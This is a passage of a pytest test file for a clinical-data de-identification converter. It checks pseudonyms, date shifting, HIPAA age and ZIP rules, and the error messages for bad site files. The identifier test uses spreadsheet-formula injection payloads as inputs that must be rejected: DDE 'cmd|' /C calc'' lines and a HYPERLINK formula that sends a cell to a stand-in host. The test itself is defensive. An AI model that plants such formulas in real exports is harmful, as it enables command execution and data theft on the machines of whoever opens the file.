"""Site clinical files -> data dictionary records: recognition, dates, pseudonyms, privacy rules."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest

from radcommons.clinical import (
    ERROR,
    ImagingStudy,
    SourceTable,
    convert_clinical,
    load_mapping,
    read_tables,
)
from radcommons.deid import date_offset_days, patient_pseudonym
from radcommons.dictionary import validate_records
from radcommons.dictionary.values import looks_like_date
from radcommons.errors import UserError

KEY = bytes(range(32))
SITES = {"site_a": ".csv", "site_b": ".tsv", "site_c": ".xlsx"}


def _site_tables(corpus: Path, site: str, corrections: bool = False) -> list[SourceTable]:
    folder = corpus / site / "clinical"
    files = [p for p in sorted(folder.iterdir()) if corrections or "corrections" not in p.name]
    return read_tables(files)


def _study(mrn: str, uid: str, day: dt.date, *args: object, site: str = "S", **kwargs: object) -> ImagingStudy:
    """A study of a patient new to the registry: its images were shifted by the derived offset."""
    return ImagingStudy(mrn, uid, day, *args, date_offset_days=date_offset_days(KEY, site, mrn), **kwargs)


def _table(name: str, columns: list[str], *rows: list[object]) -> SourceTable:
    return SourceTable(f"{name}.csv", None, tuple(columns),
                       tuple((i, dict(zip(columns, row))) for i, row in enumerate(rows, start=2)))


@pytest.mark.parametrize("site", sorted(SITES))
def test_each_site_converts_to_valid_records(corpus: Path, site: str) -> None:
    tables = _site_tables(corpus, site)
    assert {Path(t.file).suffix for t in tables} == {SITES[site]}
    result = convert_clinical(tables, key=KEY, site=site, project="Open-T1",
                              studies=[_study(mrn, f"2.25.{i}", dt.date(2021, 1, 1), site=site)
                                       for i, mrn in enumerate(_mrns(tables))])
    assert result.errors == ()
    by_node = result.by_node()
    assert set(by_node) >= {"case", "imaging_study", "measurement", "visit", "condition"}
    for node, rows in by_node.items():
        assert validate_records(rows, node).problems == (), node
    assert len(by_node["case"]) == 4


def _mrns(tables: list[SourceTable]) -> list[str]:
    demo = next(t for t in tables if t.name.lower() in ("demographics", "patients"))
    column = demo.columns[0]
    return [str(cells[column]) for _, cells in demo.rows]


@pytest.mark.parametrize("site", sorted(SITES))
def test_no_calendar_dates_or_names_leave(corpus: Path, site: str) -> None:
    tables = _site_tables(corpus, site)
    result = convert_clinical(tables, key=KEY, site=site, project="Open-T1")
    forbidden: set[str] = set()
    for table in tables:
        for _, cells in table.rows:
            for column, value in cells.items():
                if column in ("PatientName", "Patient Name", "last_name", "first_name"):
                    forbidden |= {p.strip() for p in str(value).replace("^", ",").split(",") if p.strip()}
                if isinstance(value, (dt.date, dt.datetime)):
                    forbidden.add(value.strftime("%Y-%m-%d"))
    assert forbidden
    for record in result.records:
        for key, value in record.values.items():
            for item in value if isinstance(value, list) else [value]:
                if isinstance(item, str):
                    assert looks_like_date(item) is None, (key, item)
                    assert item not in forbidden, (key, item)
                assert not isinstance(item, (dt.date, dt.datetime)), key
        assert not {"birth_date", "dob", "mrn"} & set(record.values)


def test_case_ids_are_the_image_pseudonyms(corpus: Path) -> None:
    tables = _site_tables(corpus, "site_a")
    result = convert_clinical(tables, key=KEY, site="SITE_A", project="P")
    mrns = _mrns(tables)
    assert {r.submitter_id for r in result.records if r.node == "case"} == {
        patient_pseudonym(KEY, "SITE_A", mrn) for mrn in mrns}


def test_the_study_year_is_shifted_by_the_offset_of_the_images() -> None:
    """A patient de-identified before offsets had a minimum keeps the small offset the registry
    recorded, and the images carry it: the study year is the year of the images' StudyDate, never
    the year a derivation from key and MRN would give (dated so that the two years differ)."""
    derived = date_offset_days(KEY, "S", "1")
    day, offset = (dt.date(2021, 12, 20), 5) if derived > 0 else (dt.date(2022, 1, 10), -5)
    demo = _table("demographics", ["MRN", "Sex"], ["1", "F"])
    result = convert_clinical([demo], key=KEY, site="S", project="P",
                              studies=[ImagingStudy("1", "2.25.1", day, date_offset_days=offset)])
    assert result.errors == ()
    [study] = result.by_node()["imaging_study"]
    assert study["study_year"] == (day + dt.timedelta(days=offset)).year != (day + dt.timedelta(days=derived)).year
    with pytest.raises(ValueError, match="date offset"):
        ImagingStudy("1", "2.25.1", day)  # a dated study without its images' offset
    assert ImagingStudy("1", "2.25.1").date_offset_days is None  # undated: no year to shift


def test_days_count_from_the_first_positive_test_then_first_study() -> None:
    demo = _table("demographics", ["MRN", "DOB", "Sex", "Race", "Ethnicity", "Zip"],
                  ["1", "1950-06-01", "F", "White", "Not Hispanic or Latino", "94110"],
                  ["2", "1960-01-01", "M", "Asian", "Hispanic", "19104"])
    tests = _table("covid_tests", ["MRN", "TestDate", "TestMethod", "Result"],
                   ["1", "2021-03-01", "RT-PCR", "Negative"], ["1", "2021-03-05", "PCR", "Positive"])
    studies = [_study("1", "2.25.1", dt.date(2021, 3, 7), "XR CHEST", ("CR",)),
               _study("2", "2.25.2", dt.date(2022, 2, 2), "CT CHEST", ("CT",))]
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P", studies=studies)
    assert result.errors == ()
    rows = result.by_node()
    cases = {c["submitter_id"]: c for c in rows["case"]}
    one, two = patient_pseudonym(KEY, "S", "1"), patient_pseudonym(KEY, "S", "2")
    assert cases[one]["index_event"] == "COVID-19 Test" and cases[one]["covid19_positive"] == "Yes"
    assert cases[one]["age_at_index"] == 70
    assert cases[two]["index_event"] == "First Imaging Study" and cases[two]["covid19_positive"] == "Not Reported"
    assert sorted(m["days_to_test"] for m in rows["measurement"]) == [-4, 0]
    assert {m["test_method"] for m in rows["measurement"]} == {"RT-PCR"}
    study = next(s for s in rows["imaging_study"] if s["study_uid"] == "2.25.1")
    assert study["days_to_study"] == 2 and study["days_from_study_to_pos_covid_test"] == [-2]
    assert study["days_from_study_to_neg_covid_test"] == [-6]
    assert study["study_year_shifted"] is True and abs(study["study_year"] - 2021) <= 1
    assert next(s for s in rows["imaging_study"] if s["study_uid"] == "2.25.2")["days_to_study"] == 0


def test_a_birth_date_after_the_index_event_is_an_error() -> None:
    """DOB 12/15/59 read with %m/%d/%y is 2059: the case was sent with age 0 and no issue."""
    demo = _table("demographics", ["MRN", "DOB", "Sex"], ["1", "12/15/59", "F"], ["2", "1959-12-15", "M"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["1", "2021-03-01", "Positive"],
                   ["2", "2021-03-01", "Positive"])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    [error] = result.errors
    assert (error.code, error.file, error.row, error.column) == ("birth_after_index", "demographics.csv", 2,
                                                                 "DOB")  # the site's column, as every issue
    assert "four digits" in error.fix
    cases = [r for r in result.records if r.node == "case"]
    assert [c.patient_id for c in cases] == ["2"] and cases[0].values["age_at_index"] == 61


def test_an_exact_duplicate_row_is_sent_once_with_a_note() -> None:
    demo = _table("demographics", ["MRN", "DOB", "Sex"], ["1", "1959-12-15", "F"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["1", "2021-03-01", "Positive"],
                   ["1", "2021-03-01", "Positive"], ["1", "2021-03-04", "Negative"])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    assert result.errors == ()
    assert len([r for r in result.records if r.node == "measurement"]) == 2  # it was 3: the same test twice
    [note] = [i for i in result.issues if i.code == "duplicate_row"]
    assert (note.file, note.row) == ("covid_tests.csv", 3) and "repeats covid_tests.csv row 2" in note.message


def test_ages_over_89_and_restricted_zip3(tmp_path: Path) -> None:
    demo = _table("patients", ["mrn", "birth_date", "gender", "zip_code"],
                  ["old", "01/02/1920", "F", "03601"], ["young", "01/02/1990", "M", "94110"],
                  ["edge", "03/05/1931", "M", "94110-1234"])
    tests = _table("sars_cov2_tests", ["mrn", "collection_date", "result_text"],
                   ["old", "03/05/2021", "Positive"], ["young", "03/05/2021", "Negative"],
                   ["edge", "03/05/2021", "Negative"])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    assert result.errors == ()
    cases = {r.patient_id: r.values for r in result.records if r.node == "case"}
    assert "age_at_index" not in cases["old"] and cases["old"]["age_at_index_gt89"] == "Yes"
    assert cases["old"]["zip"] == "000"  # 036 is a HIPAA restricted three-digit area
    assert cases["young"]["age_at_index"] == 31 and cases["young"]["zip"] == "941"
    # 90 on the day of the index event: over 89.
    assert "age_at_index" not in cases["edge"] and cases["edge"]["age_at_index_gt89"] == "Yes"
    mapping_file = tmp_path / "mapping.yaml"
    mapping_file.write_text('restricted_zip3: ["941"]\n')
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P", mapping=load_mapping(mapping_file))
    assert {r.values["zip"] for r in result.records if r.node == "case"} == {"000"}


def test_unknown_spellings_become_not_reported() -> None:
    demo = _table("demographics", ["MRN", "Sex", "Race", "Ethnicity"],
                  ["1", "U", "Unknown", "Unknown/Declined"], ["2", "Unknown", "Declined", "unknown"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["1", "2021-01-01", "Unknown"],
                   ["2", "2021-01-01", "Positive"])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    assert result.errors == ()
    for case in result.by_node()["case"]:
        assert case["sex"] == case["race"] == case["ethnicity"] == "Not Reported"
    assert {m["test_result_text"] for m in result.by_node()["measurement"]} == {"Not Reported", "Positive"}


@pytest.mark.parametrize("site", sorted(SITES))
def test_defect_file_is_reported_with_file_row_and_column(corpus: Path, site: str) -> None:
    result = convert_clinical(_site_tables(corpus, site, corrections=True), key=KEY, site=site, project="P")
    errors = [i for i in result.issues if i.severity == ERROR and "corrections" in (i.file or "")]
    assert [(i.row, i.column, i.value, i.code) for i in errors] == [(2, "DOB", "2021-02-30", "bad_date")]
    sex = next(i for i in result.issues if i.column == "Sex")
    assert sex.row == 2 and sex.value == "X" and "Not Reported" in sex.message
    # The rejected correction leaves the patient's original row in place.
    assert len(result.by_node()["case"]) in (2, 4)


def test_unknown_table_and_column_name_the_place_and_the_fix(tmp_path: Path) -> None:
    demo = _table("demographics", ["MRN", "Sex", "Favourite Colour"], ["1", "F", "blue"])
    notes = _table("notes", ["MRN", "Text"], ["1", "hello"])
    result = convert_clinical([demo, notes], key=KEY, site="S", project="P")
    codes = {(i.code, i.file, i.row, i.column) for i in result.errors}
    assert ("unknown_column", "demographics.csv", 1, "Favourite Colour") in codes
    assert ("unknown_table", "notes.csv", None, None) in codes
    assert all("mapping file" in i.fix for i in result.errors if i.code.startswith("unknown"))
    mapping_file = tmp_path / "site.yaml"
    mapping_file.write_text("tables:\n  notes: ignore\ncolumns:\n  case:\n    Favourite Colour: ignore\n")
    result = convert_clinical([demo, notes], key=KEY, site="S", project="P", mapping=load_mapping(mapping_file),
                              studies=[_study("1", "2.25.9", dt.date(2020, 1, 1))])
    assert result.errors == ()


def test_cross_references() -> None:
    demo = _table("demographics", ["MRN", "Sex"], ["1", "F"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["1", "2021-01-01", "Positive"],
                   ["9", "2021-01-02", "Negative"])
    studies = [_study("1", "2.25.1", dt.date(2021, 1, 3)), _study("7", "2.25.2", dt.date(2021, 1, 3)),
               _study("1", "2.25.3", dt.date(2021, 1, 3)), _study("7", "2.25.3", dt.date(2021, 1, 3))]
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P", studies=studies)
    codes = sorted((i.code, i.file, i.row, i.value) for i in result.errors)
    assert codes == [("missing_case", "images", None, "7"), ("orphan_row", "covid_tests.csv", 3, "9"),
                     ("study_two_patients", "images", None, "2.25.3")]
    sent = {r.values["study_uid"] for r in result.records if r.node == "imaging_study"}
    assert sent == {"2.25.1"}


def test_invalid_values_name_the_site_column() -> None:
    demo = _table("demographics", ["MRN", "Sex", "Zip"], ["1", "Robot", "ABCDE"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["1", "31/31/2021", "Positive"])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    found = {(i.column, i.code) for i in result.errors}
    assert found >= {("Sex", "unknown_value"), ("Zip", "bad_zip"), ("TestDate", "bad_date")}
    assert next(i for i in result.errors if i.column == "Sex").allowed == ("Female", "Male", "Not Reported")


def test_an_out_of_range_date_names_the_site_column() -> None:
    """The issue named only the derived field (days_to_medication_start), which is in no site file."""
    demo = _table("demographics", ["MRN", "Sex"], ["1", "Female"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["1", "2021-03-04", "Positive"])
    meds = _table("medications", ["MRN", "Medication", "StartDate"], ["1", "remdesivir", "1700-01-01"])
    result = convert_clinical([demo, tests, meds], key=KEY, site="S", project="P")
    [issue] = [i for i in result.errors if i.file == "medications.csv"]
    assert issue.column == "StartDate (-> days_to_medication_start)" and issue.row == 2, issue


def test_a_row_with_more_fields_than_the_header_is_an_error(tmp_path: Path) -> None:
    """An unquoted comma in a value shifts the rest of the row under the wrong columns; the row
    was converted from the shifted values without a word."""
    (tmp_path / "demographics.csv").write_text("MRN,Sex,Zip\n1,Female,60614\n2,Doe, Jane,Male,10001\n")
    result = convert_clinical(read_tables([tmp_path / "demographics.csv"]), key=KEY, site="S", project="P")
    found = [(i.code, i.row) for i in result.errors if i.code == "extra_fields"]
    assert found == [("extra_fields", 3)], [str(i) for i in result.errors]


def test_mapping_file_errors_name_the_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("tables: [unclosed\n")
    with pytest.raises(UserError, match="bad.yaml"):
        load_mapping(bad)
    bad.write_text("columns:\n  case:\n    Gender: gendre\n")
    with pytest.raises(UserError, match="unknown field 'gendre'"):
        load_mapping(bad)
    with pytest.raises(UserError, match="not found"):
        load_mapping(tmp_path / "missing.yaml")
    bad.write_text("date_formats:\n  us: '%m/%d/%Y'\n")  # a mapping where a list belongs: a TypeError before
    with pytest.raises(UserError, match="bad.yaml: 'date_formats' must be a list"):
        load_mapping(bad)
    bad.write_text("not_reported: Declined\n")  # one value is a list of one
    assert "declined" in load_mapping(bad).not_reported
    # Taken unchecked: a format that never matched, a country sent as "5" or "['a', 'b']".
    for text, message in (("date_formats: ['%Q']\n", "'%Q' in 'date_formats' is not a date format"),
                          ("date_formats: 5\n", "'5' in 'date_formats' is not a date format"),
                          ("date_formats: ['%H:%M']\n", "reads day, month and year"),
                          ("country: 5\n", "'country' must be a two-letter ISO 3166-1 code, not 5"),
                          ("country: [a, b]\n", "'country' must be a two-letter")):
        bad.write_text(text)
        with pytest.raises(UserError, match=re.escape(message) if "[" not in message else message):
            load_mapping(bad)
    bad.write_text("country: us\ndate_formats: ['%d.%m.%Y']\n")
    mapping = load_mapping(bad)
    assert mapping.country == "US" and mapping.date_formats[0] == "%d.%m.%Y"


def test_unreadable_files_raise_user_errors(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="not found"):
        read_tables([tmp_path / "nope.csv"])
    (tmp_path / "x.pdf").write_bytes(b"%PDF")
    with pytest.raises(UserError, match="unsupported file type"):
        read_tables([tmp_path / "x.pdf"])
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 a damaged zip")
    with pytest.raises(UserError, match="cannot read the workbook"):
        read_tables([tmp_path / "broken.xlsx"])
    (tmp_path / "renamed.csv").write_bytes(b"PK\x03\x04\x14\x00\x06\x00")  # read as cp1252: "missing columns"
    with pytest.raises(UserError, match="this is an Excel workbook"):
        read_tables([tmp_path / "renamed.csv"])


def test_a_formula_without_its_stored_result_is_refused_with_its_cell(tmp_path: Path) -> None:
    """openpyxl reads such a cell as empty: an age computed by a formula became a blank age."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "cases"
    sheet.append(["MRN", "Age"])
    sheet.append(["MRN001", "=40+2"])
    path = tmp_path / "computed.xlsx"
    book.save(path)
    # Kept on the sheet's table (an ignored sheet may hold such a cell), an error once the sheet is converted.
    [error] = [i for i in convert_clinical(read_tables([path]), key=KEY, site="S", project="Open-T1").errors]
    assert (error.code, error.file) == ("sheet_not_read", f"{path} [cases]")
    assert error.message.startswith("cell B2: the formula =40+2 has no stored result")
    assert "none of the sheet's rows is read" in error.message and "save it again" in error.fix
    # The same cell with the result a spreadsheet program stores next to the formula is read as that value.
    stored = tmp_path / "stored.xlsx"
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(stored, "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                assert b"<f>40+2</f><v></v>" in data or b"<f>40+2</f><v />" in data, data
                data = data.replace(b"<f>40+2</f><v></v>", b"<f>40+2</f><v>42</v>").replace(
                    b"<f>40+2</f><v />", b"<f>40+2</f><v>42</v>")
            target.writestr(item, data)
    [table] = read_tables([stored])
    assert table.rows == ((2, {"MRN": "MRN001", "Age": 42}),)


def test_identifiers_in_free_text_codes_and_country_are_errors_naming_the_kind() -> None:
    """Free text, codes and the country were sent as typed: MRNs, names, phones, dates, formulas."""
    demo = _table("demographics", ["MRN", "Last Name", "First Name", "DOB", "Sex", "Country"],
                  ["A077", "KING", "ASHLEY", "1950-06-01", "F", "US"],
                  ["B088", "SCOTT", "WILLIAM", "1960-01-01", "M", "123 Main St, Springfield"],
                  ["C099", "PEREZ", "ANA", "1970-01-01", "F", "United States"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], *[[m, "2021-03-01", "Positive"]
                                                                   for m in ("A077", "B088", "C099")])
    # (MRN, condition, code, the column with the error, what the message says was found)
    cases = [
        ("A077", "COVID-19 per Dr KING, MRN 18376500, pt ASHLEY KING", "U07.1", "Condition", "a name after a title"),
        ("A077", "call 555-123-4567, jdoe@example.org", "U07.1", "Condition", "an e-mail address and a phone number"),
        ("A077", "seen 04.03.2021, Mar 2021, 3rd March 2021", "U07.1", "Condition", "a calendar date"),
        ("A077", "Pneumonia", "SSN 123-45-6789", "ICD10", "a social security number"),
        ("A077", '=HYPERLINK("http://x/"&A1)', "J12.82", "Condition", "a spreadsheet formula"),
        ("A077", "Asthma", "+cmd|' /C calc'!A0", "ICD10", "a spreadsheet formula"),
        ("C099", "seen with william scott", "J45", "Condition", "a patient's name"),  # another patient's name
        ("C099", "contact of b088", "J45", "Condition", "an MRN of this site"),
        ("A077", "ashley's cough", "J45", "Condition", "a patient's name"),  # the patient's own first name
        ("C099", "Type 2 diabetes mellitus", "E11.9", None, ""),
        ("C099", "Graves disease", "242.00", None, ""),  # ICD-9-CM
    ]
    conditions = _table("conditions", ["MRN", "Condition", "ICD10"], *[list(c[:3]) for c in cases])
    meds = _table("medications", ["MRN", "Medication", "RxNorm"], ["C099", "Dexamethasone started 2021.08.06", "3264"],
                  ["C099", "@SUM(1+1)*cmd|' /C calc'!A0", "3264"], ["C099", "Remdesivir", "2284718"])
    result = convert_clinical([demo, tests, conditions, meds], key=KEY, site="S", project="P")
    found = {(Path(i.file or "").stem, i.row, i.column): i for i in result.errors}
    expected = {("conditions", row, c[3]): c[4] for row, c in enumerate(cases, start=2) if c[3]}
    expected |= {("medications", 2, "Medication"): "a calendar date",
                 ("medications", 3, "Medication"): "a spreadsheet formula",
                 ("demographics", 3, "Country"): "not a country"}
    # B088's demographics row is rejected: its test is an orphan (not a text problem)
    assert set(found) - {("covid_tests", 3, "MRN")} == set(expected), sorted(found)
    for where, words in expected.items():
        issue = found[where]
        assert words in issue.message and issue.message.startswith(f"{where[2]}: "), (where, issue.message)
        assert issue.value is None and issue.fix  # the kind, never the value
    assert "remove the identifier from the text" in found[("conditions", 2, "Condition")].fix
    sent = repr(result.by_node())
    for leaked in ("KING", "ASHLEY", "18376500", "555-123", "jdoe", "2021", "123-45", "HYPERLINK", "cmd|", "Main St"):
        assert leaked.lower() not in sent.lower(), leaked
    assert {c["condition_name"] for c in result.by_node()["condition"]} == {"Type 2 diabetes mellitus", "Graves disease"}
    assert [m["medication_name"] for m in result.by_node()["medication"]] == ["Remdesivir"]


def test_a_zip_stored_as_a_number_gets_its_leading_zeros_back() -> None:
    """Excel stores ZIPs as numbers: 941 (a three-digit ZIP) became '009', 2138 (02138) is '021'."""
    zips = [941, 941.0, 2138, 2138.0, 501, 10, 94110, 5011234, 36]
    demo = _table("demographics", ["MRN", "Sex", "Zip"], *[[f"M{i:04d}", "F", z] for i, z in enumerate(zips)])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"],
                   *[[f"M{i:04d}", "2021-03-01", "Positive"] for i in range(len(zips))])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    assert result.errors == ()
    by_case = {c["submitter_id"]: c["zip"] for c in result.by_node()["case"]}
    got = [by_case[patient_pseudonym(KEY, "S", f"M{i:04d}")] for i in range(len(zips))]
    # 36 is ZIP3 036, restricted (HIPAA: 20,000 people or fewer): "000"
    assert got == ["941", "941", "021", "021", "501", "010", "941", "005", "000"]


def test_duplicate_rows_are_found_by_their_fields() -> None:
    """Each row used to be compared with every earlier row of its patient (40,000 condition rows of
    one patient took 34 s, 100,000 did not finish); rows are now looked up by their fields. Timing
    is for the benchmarks: this checks that the lookup still finds every repeat, and only repeats."""
    import string

    def word(i: int) -> str:  # letters only: no digits for the identifier checks to find
        return "".join(string.ascii_lowercase[(i // 26 ** k) % 26] for k in range(4))

    demo = _table("demographics", ["MRN", "Sex"], ["M1001", "F"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["M1001", "2021-03-01", "Positive"])
    rows = [["M1001", f"Finding {word(i)}", "R05"] for i in range(2_000)]
    conditions = _table("conditions", ["MRN", "Condition", "ICD10"], *rows, rows[7], rows[1_999])
    result = convert_clinical([demo, tests, conditions], key=KEY, site="S", project="P")
    assert result.errors == () and result.counts()["condition"] == 2_000
    notes = [(i.row, i.message) for i in result.issues if i.code == "duplicate_row"]
    assert notes == [(2_002, "this row repeats conditions.csv row 9 exactly: it is sent once"),
                     (2_003, "this row repeats conditions.csv row 2001 exactly: it is sent once")]


def test_rows_of_a_patient_whose_demographics_row_was_rejected_point_at_it() -> None:
    """Every other row of the patient said 'has no row in the demographics', which was not true."""
    demo = _table("demographics", ["MRN", "DOB", "Sex"], ["M1001", "1950-02-30", "F"], ["M1002", "1960-01-01", "M"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["M1001", "2021-03-01", "Positive"],
                   ["M1003", "2021-03-01", "Positive"])
    studies = [_study("M1001", "2.25.1", dt.date(2021, 3, 7)), _study("M1002", "2.25.2", dt.date(2021, 3, 7))]
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P", studies=studies)
    by_where = {(i.file, i.row): i for i in result.errors}
    assert by_where[("demographics.csv", 2)].code == "bad_date"
    test = by_where[("covid_tests.csv", 2)]
    assert test.code == "case_rejected" and "demographics.csv row 2" in test.message
    assert test.fix == "fix the errors of demographics.csv row 2"
    images = by_where[("images", None)]
    assert images.code == "case_rejected" and "demographics.csv row 2" in images.fix
    assert by_where[("covid_tests.csv", 3)].code == "orphan_row"  # M1003 has no demographics row at all
    assert "has no row in the demographics" in by_where[("covid_tests.csv", 3)].message


def test_a_date_after_today_is_an_error() -> None:
    """A test dated 2099 was sent as days_to_test 27796 (a mistyped year, or a two-digit year read in
    the wrong century)."""
    demo = _table("demographics", ["MRN", "Sex"], ["M1001", "F"])
    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], ["M1001", "2021-03-01", "Positive"],
                   ["M1001", "2099-07-18", "Negative"])
    result = convert_clinical([demo, tests], key=KEY, site="S", project="P")
    assert [(i.row, i.column, i.code) for i in result.errors] == [(3, "TestDate", "future_date")]
    assert "after today" in result.errors[0].message and result.errors[0].fix


def test_mrns_that_lost_their_leading_zeros_say_so_and_cases_without_images_are_reported(tmp_path: Path) -> None:
    """The images' Patient ID 0012345 and the clinical MRN 12345 (Excel dropped the zeros): the
    images were 'without a demographics row' with no hint, and the case 12345 was sent as a
    patient of its own; a case with no images at all was sent without a word."""
    (tmp_path / "demographics.csv").write_text("MRN,Sex\n12345,F\n555,M\n0077,F\n")
    (tmp_path / "covid_tests.csv").write_text("MRN,TestDate,Result\n12345,2021-01-01,Positive\n"
                                              "555,2021-01-01,Positive\n77,2021-01-01,Negative\n")
    studies = [_study("0012345", "2.25.1", dt.date(2021, 1, 3)), _study("0077", "2.25.2", dt.date(2021, 1, 3))]
    result = convert_clinical(read_tables([tmp_path / "demographics.csv", tmp_path / "covid_tests.csv"]),
                              key=KEY, site="S", project="P", studies=studies)
    found = {(i.code, Path(i.file or "").name, i.row, i.value): i for i in result.issues if i.code != "case_rejected"}
    assert set(found) == {("mrn_lost_zeros", "demographics.csv", 2, "12345"),
                          ("missing_case", "images", None, "0012345"),
                          ("orphan_row", "covid_tests.csv", 4, "77"),
                          ("case_without_images", "demographics.csv", 3, "555")}, sorted(found)
    for code in ("mrn_lost_zeros", "missing_case", "orphan_row"):
        issue = next(i for i in found.values() if i.code == code)
        assert issue.severity == ERROR and "leading zeros" in issue.message, issue
        assert "format the MRN column as text" in issue.fix
    assert "'0012345'" in found[("mrn_lost_zeros", "demographics.csv", 2, "12345")].message
    assert "'0077'" in found[("orphan_row", "covid_tests.csv", 4, "77")].message
    without = found[("case_without_images", "demographics.csv", 3, "555")]
    assert without.severity == "warning" and without.column == "MRN" and "sent without images" in without.message
    # 12345 is not sent as a patient of its own; 555 is sent (its images may come in another batch).
    cases = {r.patient_id for r in result.records if r.node == "case"}
    assert cases == {"555", "0077"}


def test_an_excel_date_serial_number_in_a_date_column_says_so(tmp_path: Path) -> None:
    """A date column formatted as a number holds 44927 for 2023-01-01: the message said only
    'not a date in a known format', with the fix to add a date format."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "demographics"
    book.active.append(["MRN", "DOB", "Sex"])
    book.active.append(["1", 44927, "F"])
    book.save(tmp_path / "patients.xlsx")
    (tmp_path / "covid_tests.csv").write_text("MRN,TestDate,Result\n1,44927,Positive\n1,20230101,Negative\n")
    result = convert_clinical(read_tables([tmp_path / "patients.xlsx", tmp_path / "covid_tests.csv"]),
                              key=KEY, site="S", project="P")
    found = {(Path(i.file or "").name, i.row, i.column): i for i in result.errors if i.code == "bad_date"}
    assert set(found) == {("patients.xlsx [demographics]", 2, "DOB"), ("covid_tests.csv", 2, "TestDate")}
    for issue in found.values():
        assert "44927 looks like an Excel date serial number (2023-01-01?)" in issue.message, issue
        assert "format the column as a date" in issue.fix


def test_demographics_rows_of_one_mrn_that_disagree_are_an_error_naming_both(tmp_path: Path) -> None:
    """Two rows for one MRN with another sex or birth date were merged with a note, the later
    row's values winning: a wrong sex or age could be sent with nothing but a note."""
    (tmp_path / "demographics.csv").write_text("MRN,Sex,DOB,Zip\n1,F,1950-01-01,\n2,F,1960-01-01,60614\n"
                                               "3,M,1970-01-01,\n")
    (tmp_path / "patients_2.csv").write_text("MRN,Sex,DOB,Zip\n1,M,1950-01-01,\n2,Female,,60614\n3,M,1971-02-02,\n")
    (tmp_path / "covid_tests.csv").write_text("MRN,TestDate,Result\n" + "".join(
        f"{m},2021-01-01,Positive\n" for m in (1, 2, 3)))
    result = convert_clinical(read_tables([tmp_path / n for n in ("demographics.csv", "patients_2.csv",
                                                                 "covid_tests.csv")]),
                              key=KEY, site="S", project="P")
    conflicts = {(Path(i.file or "").name, i.row, i.column): i for i in result.errors if i.code == "conflicting_rows"}
    assert set(conflicts) == {("patients_2.csv", 2, "Sex"), ("patients_2.csv", 4, "DOB")}
    assert "demographics.csv row 2" in conflicts[("patients_2.csv", 2, "Sex")].message
    assert "'Male' here, 'Female' there" in conflicts[("patients_2.csv", 2, "Sex")].message
    assert "'1971-02-02' here, '1970-01-01' there" in conflicts[("patients_2.csv", 4, "DOB")].message
    # Neither row of a patient whose rows disagree is sent; agreeing rows are one case, with a note.
    assert {r.patient_id for r in result.records if r.node == "case"} == {"2"}
    [note] = [i for i in result.issues if i.code == "repeated"]
    assert (Path(note.file or "").name, note.row, note.severity) == ("patients_2.csv", 3, "note")
    rejected = {(Path(i.file or "").name, i.row) for i in result.errors if i.code == "case_rejected"}
    assert rejected == {("covid_tests.csv", 2), ("covid_tests.csv", 4)}


def test_a_country_written_as_a_name_becomes_its_code_through_the_value_mapping(tmp_path: Path) -> None:
    """'USA', 'United States' and 'U.S.' were sent as typed: one country, three facet values, none
    the ISO 3166-1 code the dictionary describes."""
    rows = ["USA", "United States", "U.S.", "us", "Germany", "Deutschland"]
    (tmp_path / "demographics.csv").write_text("MRN,Sex,Country\n" + "".join(
        f"{n},F,{country}\n" for n, country in enumerate(rows, start=1)))
    (tmp_path / "covid_tests.csv").write_text("MRN,TestDate,Result\n" + "".join(
        f"{n},2021-01-01,Positive\n" for n in range(1, len(rows) + 1)))
    (tmp_path / "site.yaml").write_text("values:\n  country: {Deutschland: de}\n")
    tables = read_tables([tmp_path / "demographics.csv", tmp_path / "covid_tests.csv"])
    result = convert_clinical(tables, key=KEY, site="S", project="P", mapping=load_mapping(tmp_path / "site.yaml"))
    sent = {r.patient_id: r.values["country_of_residence"] for r in result.records if r.node == "case"}
    assert sent == {"1": "US", "2": "US", "3": "US", "4": "US", "6": "DE"}
    [unknown] = [i for i in result.errors if i.code != "case_rejected"]
    assert (unknown.code, unknown.row, unknown.column, unknown.value) == ("unknown_country", 6, "Country", "Germany")
    assert "values: {country: {'Germany': <code>}}" in unknown.fix
    (tmp_path / "bad.yaml").write_text("values:\n  country: {Deutschland: Germany}\n")
    with pytest.raises(UserError, match=r"bad.yaml: values.country.Deutschland must be a two-letter ISO 3166-1 code, not 'Germany'"):
        load_mapping(tmp_path / "bad.yaml")


def test_a_study_of_two_patients_names_what_the_site_knows_it_by(tmp_path: Path) -> None:
    """The private report named the study by its de-identified UID only, which no PACS knows."""
    (tmp_path / "demographics.csv").write_text("MRN,Sex\n1,F\n7,M\n")
    studies = [_study("1", "2.25.3", dt.date(2021, 1, 3), original_uid="1.2.840.99.1", accession="ACC42",
                            files=("pacs/p1/a.dcm", "pacs/p1/b.dcm")),
               _study("7", "2.25.3", dt.date(2021, 1, 3), original_uid="1.2.840.99.1", accession="ACC42",
